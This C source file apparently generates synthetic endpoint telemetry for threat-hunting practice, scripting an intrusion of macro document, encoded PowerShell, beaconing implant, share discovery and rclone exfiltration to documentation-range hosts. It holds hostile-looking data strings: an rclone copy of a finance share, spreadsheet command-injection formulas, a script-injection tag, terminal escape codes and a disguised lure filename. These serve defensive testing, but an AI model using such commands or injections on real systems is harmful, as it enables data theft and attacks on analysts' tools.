/* SPDX-License-Identifier: Apache-2.0 */
/*
 * What befalls the company in the sample, and text that a reader of its data must survive.
 *
 * The intrusion, by the clock after the start of the day:
 *   09:12  a document from a mail is opened; WINWORD.EXE fetches a template, then starts powershell.exe (encoded)
 *   09:13  the implant, zoomupdater.exe in the user's temporary folder, reports to 203.0.113.57 every forty minutes
 *   09:20  a second recipient opens invoice_<right-to-left override>fdp.exe; the proxy stops it
 *   10:41  the implant starts powershell.exe and cmd.exe, at 11:02 it looks for open file shares
 *   13:08  it runs on a file server too, started through WMI, from C:\Windows\Temp
 *   16:20  rclone.exe takes the finance share to 198.51.100.140
 * The implant's name is last in the alphabet on purpose: the hunt that encodes names by alphabetical rank sees it, and
 * cannot see rclone.exe; the one that encodes by frequency sees both. Of the odd programs in cast.c all are innocent.
 */
#include <string.h>

#include "hb/ticks.h"

#include "sample_int.h"

#define IMPLANT  "zoomupdater.exe"
#define C2       "203.0.113.57"
#define C2_SPARE "203.0.113.99"
#define C2_NAME  "cdn-zoom-update.example"
/* UTF-16 in base64: Write-Output 'huntbook sample data: this command is harmless' */
#define HARMLESS                                                                                             \
    "VwByAGkAdABlAC0ATwB1AHQAcAB1AHQAIAAnAGgAdQBuAHQAYgBvAG8AawAgAHMAYQBtAHAAbABlACAAZABhAHQAYQA6ACAAdABoAG" \
    "kAcwAgAG"                                                                                               \
    "MAbwBtAG0AYQBuAGQAIABpAHMAIABoAGEAcgBtAGwAZQBzAHMAJwA="
#define CLOCK(h, m, s) ((h)*TICKS_HOUR + (m)*TICKS_MIN + (s)*TICKS_SEC)

enum { FOR_STORY = 40, FOR_BEACON, FOR_PORT };
enum { ID_IMPLANT = 9001, ID_RCLONE, ID_LURE };
enum { STORY_MAX = 256 };

struct story {
    const struct world *w;
    struct arena *a;
    struct event *events;
    size_t n, max;
};

static const struct program implant = {
    .name = IMPLANT,
    .folder = "C:\\Users\\{u}\\AppData\\Local\\Temp",
    .parent = "WINWORD.EXE",
    .company = "",
    .command = "{p} -s 1",
    .traffic = TO_VENDOR,
    .account = AS_USER,
    .id = ID_IMPLANT,
};
static const struct program implant_on_server = {
    .name = IMPLANT,
    .folder = "C:\\Windows\\Temp",
    .parent = "WmiPrvSE.exe",
    .company = "",
    .command = "{p} -s 2 -k {g}",
    .traffic = TO_VENDOR,
    .account = AS_SYSTEM,
    .id = ID_IMPLANT,
};
static const struct program rclone = {
    .name = "rclone.exe",
    .folder = "C:\\ProgramData\\Intel",
    .parent = IMPLANT,
    .company = "https://rclone.org",
    .command =
        "{p} copy \"D:\\finance\" remote:backup --include \"*.{xlsx,pdf}\" --transfers 16 --bwlimit 8M",
    .traffic = TO_VENDOR,
    .account = AS_SYSTEM,
    .id = ID_RCLONE,
};
/* Shown by a careless program as invoice_exe.pdf: U+202E turns what follows around. */
static const struct program lure = {
    .name = "invoice_\u202Efdp.exe",
    .folder = "C:\\Users\\{u}\\AppData\\Local\\Temp\\Temp1_invoice.zip",
    .parent = "explorer.exe",
    .company = "",
    .command = "{p}",
    .traffic = TO_VENDOR,
    .account = AS_USER,
    .id = ID_LURE,
};

static const struct program *known_program(const struct world *w, const char *name)
{
    for (uint32_t i = 0; i < w->nprograms; i++)
        if (!strcmp(w->programs[i].name, name))
            return &w->programs[i];
    return &w->programs[0];
}

/* A known program as somebody else started it. */
static const struct program *started_by(struct story *s, const char *name, const char *parent)
{
    struct program *p = ARENA_NEW(s->a, struct program);
    *p = *known_program(s->w, name);
    p->parent = parent;
    p->account = AS_USER;
    return p;
}

static const struct program *shell_of(struct story *s, const char *parent)
{
    struct program *p = ARENA_NEW(s->a, struct program);
    *p = (struct program){
        .name = "cmd.exe",
        .folder = "C:\\Windows\\System32",
        .parent = parent,
        .company = "Microsoft Corporation",
        .command = "{p}",
        .account = AS_USER,
        .id = ID_LURE + 1,
    };
    return p;
}

/* Adds an event; past the maximum it goes to a place that is written again and again. */
static struct event *add(struct story *s, int64_t clock, const struct host *host,
                         const struct program *program)
{
    struct event *e = &s->events[s->n < s->max ? s->n++ : s->max];
    uint64_t x = mix(s->w->seed, FOR_STORY, s->n, 0);
    *e = (struct event){
        .time = s->w->start + clock + (int64_t)(x % TICKS_SEC),
        .host = host,
        .program = program,
        .action = "ConnectionSuccess",
        .protocol = "Tcp",
        .remote_type = "Public",
        .local_type = "Private",
        .remote_port = 443,
        .local_port = 49152 + below(mix(s->w->seed, FOR_PORT, s->n, 0), 16384),
        .url = "",
        .extra = "",
        .pid = 8 + 4 * below(mix(s->w->seed, FOR_STORY, program->id, (uint64_t)(host - s->w->hosts)), 4000),
        .parent_pid = 8 + 4 * below(mix(s->w->seed, FOR_STORY, program->id, 1), 4000),
    };
    e->created = e->time - 2 * TICKS_SEC;
    strcpy(e->local_ip, host->ip);
    return e;
}

static void to(struct event *e, const char *ip, uint32_t port, const char *url)
{
    strcpy(e->remote_ip, ip);
    e->remote_port = port;
    e->url = url;
}

static void beacons(struct story *s, const struct host *host, const struct program *program, int64_t first,
                    int64_t every)
{
    int64_t created = s->w->start + first - 3 * TICKS_SEC;
    int64_t clock = first;
    for (uint64_t k = 0; clock < TICKS_DAY - TICKS_MIN; k++) {
        struct event *e = add(s, clock, host, program);
        to(e, C2, 443, C2_NAME);
        if (k % 9 == 8) {
            to(e, C2_SPARE, 8443, "");
            e->action = "ConnectionFailed";
        }
        e->created = created;
        /* A jitter of a tenth, as implants have. */
        clock += every - every / 10 +
                 (int64_t)(mix(s->w->seed, FOR_BEACON, k, (uint64_t)first) % (uint64_t)(every / 5));
    }
}

static void first_hour(struct story *s, const struct host *victim, const struct host *second)
{
    const struct program *word = started_by(s, "WINWORD.EXE", "OUTLOOK.EXE");
    struct event *e = add(s, CLOCK(9, 12, 7), victim, word);
    to(e, "198.51.100.23", 443, "docs-preview.example/t/9f2,4.dotm");
    e->command = "\"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE\" /n "
                 "\"C:\\Users\\Public\\INetCache\\"
                 "Content.Outlook\\7QK2LX\\Invoice, \"final\" (2).docm\" /o \"\"";
    e = add(s, CLOCK(9, 12, 41), victim, started_by(s, "powershell.exe", "WINWORD.EXE"));
    to(e, C2, 443, C2_NAME "/z/zoomupdater.bin");
    e->command = "powershell.exe -NoP -NonI -W Hidden -Enc " HARMLESS;
    beacons(s, victim, &implant, CLOCK(9, 13, 20), 40 * TICKS_MIN);
    for (int k = 0; k < 3; k++) {
        e = add(s, CLOCK(9, 20, 5 + 2 * k), second, &lure);
        to(e, C2, 443, C2_NAME);
        e->action = "ConnectionFailed";
    }
}

static void looks_around(struct story *s, const struct host *victim, const struct host *server)
{
    struct event *e = add(s, CLOCK(10, 41, 3), victim, started_by(s, "powershell.exe", IMPLANT));
    to(e, C2, 8080, "http://" C2 ":8080/p/2.txt");
    e->command = "powershell.exe -NoP -W Hidden -EncodedCommand " HARMLESS;
    e = add(s, CLOCK(10, 44, 19), victim, shell_of(s, IMPLANT));
    to(e, server->ip, 445, server->name);
    e->remote_type = "Private";
    e->command = "cmd.exe /c whoami /all & dir \\\\srv-file-01\\finance$ > \"%TEMP%\\o,1.txt\"";
    for (uint32_t k = 0; k < 8; k++) {
        const struct host *other = &s->w->hosts[k * (s->w->nhosts / 8)];
        e = add(s, CLOCK(11, 2, 0) + k * 9 * TICKS_SEC, victim, &implant);
        to(e, other->ip, 445, "");
        e->remote_type = "Private";
        e->action = other->server ? "ConnectionSuccess" : "ConnectionFailed";
    }
}

static void takes_data(struct story *s, const struct host *victim, const struct host *server)
{
    beacons(s, server, &implant_on_server, CLOCK(13, 8, 31), 75 * TICKS_MIN);
    struct event *e = add(s, CLOCK(15, 2, 11), victim, &implant);
    to(e, C2, 443, C2_NAME);
    /* Some intruders write for the people who will read this, and for their tools. */
    e->command = "zoomupdater.exe --note \"=cmd|'/c calc'!A0\" --tag <script>alert(1)</script> --bell "
                 "\a\x1b[31mred\x1b[0m "
                 "--lines \"first\nsecond\"";
    for (int k = 0; k < 14; k++) {
        e = add(s, CLOCK(16, 20, 0) + k * 163 * TICKS_SEC, server, &rclone);
        to(e, "198.51.100.140", 443, "storage-eu.example");
        e->created = s->w->start + CLOCK(16, 19, 58);
    }
}

/* Innocent, but awkward to read, write, sort and show. */
static void awkward_text(struct story *s)
{
    static const struct {
        const char *program, *url, *command, *extra;
    } rows[] = {
        { "EXCEL.EXE", "",
          "EXCEL.EXE \"C:\\Users\\Public\\Umsätze 2025 – \"endgültig\", Müller & Söhne.xlsx\"", "" },
        { "chrome.exe", "https://www.example.org/?q=\"a\",\"b\"&r='c'", NULL, "" },
        { "msedge.exe", "https://www.example.org/<b>bold</b>&amp;<img src=x onerror=alert(1)>", NULL, "" },
        { "7zFM.exe", "",
          "7zFM.exe \"C:\\Users\\Public\\holiday \U0001F3D6\uFE0F photos "
          "\U0001F468\u200D\U0001F469\u200D\U0001F467.7z\"",
          "" },
        { "notepad++.exe", "",
          "notepad++.exe \"C:\\Users\\Public\\报告，最终版.txt\" \"תיקיה\\קובץ.txt\" \"تقرير.txt\"", "" },
        { "OUTLOOK.EXE", "", "OUTLOOK.EXE /c ipm.note /m \"mailto:a@b.example?subject=line one\r\nline two\"",
          "" },
        { "explorer.exe", "", "=HYPERLINK(\"http://www.example.org/\"&A1,\"click\")", "" },
        { "explorer.exe", "", "@SUM(1+1)*cmd|' /C calc'!A0", "" },
        { "explorer.exe", "", "-2+3", "" },
        { "firefox.exe", "", "firefox.exe\t-url\t\"zero\u200Bwidth\uFEFF and \u2066isolated\u2069.html\"",
          "" },
        { "Code.exe", "", "Code.exe \x1b]0;renamed\a\x1b[2J e\u0301\u0323\u0327 \uFFFD", "" },
        { "svchost.exe", "", NULL, "{\"note\":\"said \\\"no\\\", twice\",\"list\":[1,2,{\"k\":null}]}" },
        { "ms-teams.exe", "teams.corp.example/l/Straße/日本語", NULL,
          "{\"direction\":\"Out\",\"bytes\":9007199254740993}" },
    };
    const struct world *w = s->w;
    for (uint32_t k = 0; k < sizeof rows / sizeof rows[0]; k++) {
        uint64_t x = mix(w->seed, FOR_STORY, k, 2);
        struct event *e = add(s, CLOCK(7, 30, 0) + (int64_t)k * 41 * TICKS_MIN,
                              &w->hosts[below(x, w->nworkstations)], known_program(w, rows[k].program));
        to(e, "192.0.2.80", 443, rows[k].url);
        e->command = rows[k].command;
        e->extra = rows[k].extra;
    }
}

struct event *story_events(const struct world *w, struct arena *a, size_t max, size_t *n)
{
    if (max > STORY_MAX)
        max = STORY_MAX;
    struct story s = { .w = w, .a = a, .max = max, .events = ARENA_ARRAY(a, max + 1, struct event) };
    const struct host *victim = &w->hosts[below(mix(w->seed, FOR_STORY, 0, 3), w->nworkstations - 1)];
    const struct host *file_server = &w->hosts[w->nworkstations + 3];
    first_hour(&s, victim, victim + 1);
    looks_around(&s, victim, file_server);
    takes_data(&s, victim, file_server);
    awkward_text(&s);
    *n = s.n;
    return s.events;
}
